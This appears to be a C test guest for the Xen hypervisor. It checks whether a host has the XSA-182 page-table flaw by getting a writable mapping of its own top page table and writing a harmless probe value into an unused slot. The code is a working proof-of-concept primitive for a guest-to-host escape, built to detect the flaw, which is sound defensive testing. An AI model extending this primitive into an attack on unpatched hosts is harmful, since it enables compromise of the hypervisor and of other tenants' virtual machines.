/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * xsa182: tells once a second whether the host has the flaw of XSA-182.
 *
 * A PV guest may map its own top page table into itself, read-only.  The guest
 * does so and then asks Xen to make that entry writable.  A sound Xen refuses;
 * one with the flaw does it without a look, and the guest writes to its page
 * table through the window that it has got.  It writes an entry that isn't in
 * use, once, and takes it back: no harm is done to anybody.
 */
#include "guest.h"

#define PAGE_SHIFT 12
#define ENTRY_PRESENT 0x01
#define ENTRY_WRITABLE 0x02
#define ENTRY_USER 0x04
#define ENTRY_ACCESSED 0x20
#define ENTRY_DIRTY 0x40

#define WINDOW_SLOT 5ul         /* of the top table: guests' own, and unused */
#define PROBED_SLOT 6ul         /* likewise */
#define PROBE 0x1820ul          /* not present: it maps nothing */

/* Where the top table is seen if it is the table of each level. */
#define WINDOW (WINDOW_SLOT << 39 | WINDOW_SLOT << 30 | \
                WINDOW_SLOT << 21 | WINDOW_SLOT << 12)

const char guest_name[] = "xsa182";

static uint64_t top_table;      /* its machine address */

static long set_entry(unsigned int slot, uint64_t entry)
{
    struct mmu_update update = {
        .ptr = (top_table + slot * sizeof(entry)) | MMU_NORMAL_PT_UPDATE,
        .val = entry,
    };

    return hypercall(__HYPERVISOR_mmu_update, (uintptr_t)&update, 1, 0,
                     DOMID_SELF);
}

static void flush_tlb(void)
{
    struct mmuext_op op = { .cmd = MMUEXT_TLB_FLUSH_LOCAL };

    hypercall(__HYPERVISOR_mmuext_op, (uintptr_t)&op, 1, 0, DOMID_SELF);
}

static void write_through_window(void)
{
    volatile uint64_t *entry = (volatile uint64_t *)WINDOW + PROBED_SLOT;

    flush_tlb();
    *entry = PROBE;
    say(*entry == PROBE ? "VULNERABLE: wrote to its own page table"
                        : "the window is not where it should be");
    *entry = 0;
}

static void try(void)
{
    uint64_t entry = top_table | ENTRY_PRESENT | ENTRY_USER |
                     ENTRY_ACCESSED | ENTRY_DIRTY;
    long rc = set_entry(WINDOW_SLOT, entry);

    if ( rc )
    {
        say("can't map the page table read-only: %d", rc);
        return;
    }
    rc = set_entry(WINDOW_SLOT, entry | ENTRY_WRITABLE);
    if ( rc )
        say("safe: Xen refused to make the page table writable (%d)", rc);
    else
        write_through_window();
    set_entry(WINDOW_SLOT, 0);
    flush_tlb();
}

void guest_main(void)
{
    const uint64_t *frames = (const uint64_t *)guest_info->mfn_list;

    top_table = frames[guest_info->pt_base >> PAGE_SHIFT] << PAGE_SHIFT;
    for ( ;; )
    {
        try();
        sleep_until(now() + SECOND);
    }
}
